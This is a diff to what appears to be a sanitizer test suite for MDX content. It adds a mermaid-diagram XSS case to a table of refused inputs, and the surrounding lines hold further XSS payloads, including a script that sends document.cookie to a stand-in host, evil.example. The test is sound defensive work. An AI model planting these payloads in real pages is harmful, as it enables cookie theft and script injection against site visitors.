@@ -106,6 +106,11 @@ const refused: {
     ['publishes an environment variable', '{process.env.DEPLOY_TOKEN}', /mdx-expression/],
     ['ships a script to readers', '<script>{`fetch("https://evil.example/?" + document.cookie)`}</script>', /html-element/],
     ['ships an event handler', '<img src="x.png" onerror="alert(document.cookie)" />', /event-handler/],
+    [
+      'ships an event handler in a diagram',
+      '```mermaid\nflowchart LR\n  a["<img src=x onerror=alert(1)>"]\n```',
+      /event-handler/,
+    ],
     ['embeds a document that runs script', '<iframe srcdoc="<script>alert(1)</script>" />', /html-element/],
     ['links to javascript:', '[Open the dashboard](javascript:alert(document.cookie))', /unsafe-url/],
   ].map(([does, payload, rule], index) => ({
